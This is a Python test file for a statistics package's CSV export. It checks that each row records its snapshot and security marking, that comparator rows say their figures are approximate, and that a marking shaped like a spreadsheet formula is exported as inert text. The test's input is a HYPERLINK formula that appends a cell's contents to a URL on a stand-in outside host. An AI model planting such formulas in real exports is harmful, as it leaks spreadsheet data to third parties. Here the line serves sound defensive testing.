"""A table as a file of rows: each says where it is from, and a spreadsheet computes none of it."""

import csv
import io
from pathlib import Path

import pytest

import cocad
import dozen
from cocad.export.sheet import as_csv
from cocad.snapshots import write
from disclosure.test_attack import KENT
from disclosure.test_comparator import REGION

FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A2,"OFFICIAL")'


def test_a_marking_that_would_be_a_formula_is_text(root: Path) -> None:
    write(root, dozen.description(synthetic=False, marking=FORMULA), dozen.frames())
    table = cocad.tabulate(cocad.open("dozen"), "crimes", ["recency"])
    rows = list(csv.DictReader(io.StringIO(as_csv(table).decode())))
    assert [row["recency"] for row in rows] == ["Recent", "Non-recent", "Unknown"]
    assert {row["marking"] for row in rows} == {f"'{FORMULA}"}
    assert [int(row["count"]) for row in rows] == table.frame["count"].to_list()


@pytest.mark.usefixtures("folder")
def test_each_row_has_the_snapshot_and_the_marking() -> None:
    table = cocad.tabulate(cocad.open("dozen"), "crimes", ["recency"])
    rows = list(csv.DictReader(io.StringIO(as_csv(table).decode())))
    told = ("dozen", "Synthetic data, not for operational use. OFFICIAL")
    assert {(row["snapshot"], row["marking"]) for row in rows} == {told}


def test_a_comparator_says_in_each_row_that_its_numbers_are_about() -> None:
    told = cocad.tabulate(REGION, "crimes", ["criterion"], {}, viewer=f"force:{KENT}")
    head, *rows = as_csv(told).decode().splitlines()
    assert head.endswith(",accuracy")
    assert all(row.endswith('"about, from disguised records, rounded to 5"') for row in rows)
    own = cocad.tabulate(REGION, "crimes", ["criterion"], {"force": KENT}, viewer=f"force:{KENT}")
    assert "accuracy" not in as_csv(own).decode()
